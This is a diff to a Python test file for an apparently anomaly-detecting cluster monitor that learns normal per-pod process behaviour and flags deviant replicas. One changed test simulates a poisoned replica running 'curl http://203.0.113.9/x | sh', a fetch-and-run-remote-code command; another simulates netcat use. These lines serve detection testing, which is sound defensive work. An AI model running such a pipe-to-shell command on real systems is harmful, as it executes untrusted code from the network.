@@ -44,8 +44,8 @@ def test_it_is_said_within_a_second_after_half_a_minute_of_normal_life(cluster: 
 
 def test_what_is_new_but_neutral_waits_for_the_peers_and_is_then_said(cluster: Cluster) -> None:
     pods = cluster.pods(5)
-    cluster.normal(pods, 0, 300)
-    cluster.exec(200.5, pods[1], "/opt/tool/unheard-of")
+    cluster.normal(pods, 0, 900)
+    cluster.exec(800.5, pods[1], "/opt/tool/unheard-of")
 
     (alert,) = alerts(analyse(cluster))
 
@@ -57,14 +57,17 @@ def test_a_replica_poisoned_from_the_start_is_flagged_and_teaches_nothing(cluste
     pods = cluster.pods(5)
     cluster.normal(pods, 0, 300)
     for second in range(1, 300, 10):
-        cluster.exec(second + 0.3, pods[3], "/usr/bin/curl", args=("curl", "http://203.0.113.9/x"))
+        shell = cluster.exec(second + 0.3, pods[3], "/usr/bin/dash", args=("sh", "-c", "curl http://203.0.113.9/x | sh"))
+        cluster.exec(second + 0.4, pods[3], "/usr/bin/curl", parent="/usr/bin/dash", parent_pid=shell)
     analysis = Analysis()
 
     (alert,) = alerts(analyse(cluster, analysis=analysis))
 
     assert [each.pod for each in alert.replicas] == ["cart-r1-3"]
     states = {each.key: each.state for each in analysis.baseline(CART)}
-    assert states["/usr/bin/curl <- /usr/bin/server"] == BehaviourState.CANDIDATE
+    assert states["/usr/bin/dash <- /usr/bin/server"] == BehaviourState.CANDIDATE
+    assert states["/usr/bin/dash <- /usr/bin/server : -c curl <http:public:203.0.0.0/16> | sh"] == BehaviourState.CANDIDATE
+    assert states["/usr/bin/curl <- /usr/bin/dash"] == BehaviourState.CANDIDATE
     assert states["/usr/bin/psql <- /usr/bin/server"] == BehaviourState.LEARNED
 
 
@@ -209,7 +212,7 @@ def test_what_goes_on_is_told_again_after_a_while(cluster: Cluster) -> None:
 def test_what_is_mild_is_told_once_however_long_it_goes_on(cluster: Cluster) -> None:
     pods = cluster.pods(5)
     cluster.normal(pods, 0, 3000)
-    for second in (100, 1100, 2100):
+    for second in (900, 1900, 2900):
         cluster.exec(second + 0.5, pods[2], "/usr/bin/odd")
 
     (alert,) = alerts(analyse(cluster))
@@ -246,11 +249,10 @@ def test_the_sentence_does_not_contradict_itself_about_the_other_replicas(cluste
 def test_earlier_replicas_that_were_reported_for_the_same_are_not_said_to_be_innocent(cluster: Cluster) -> None:
     old, new = cluster.pods(4), cluster.pods(4, revision="r2", at=300)
     cluster.normal(old, 0, 300)
-    for number, pod in enumerate(old):
-        cluster.exec(100.5 + 20 * number, pod, "/usr/bin/nc")
+    cluster.exec(100.5, old[0], "/usr/bin/nc")
     cluster.normal(new, 300, 500)
     cluster.exec(450.5, new[1], "/usr/bin/nc")
 
     found = alerts(analyse(cluster))
 
-    assert "none of its 3 peers ever did, though 4 of 4 earlier replicas did" in found[-1].reason
+    assert "none of its 3 peers ever did, though 1 of 4 earlier replicas did" in found[-1].reason
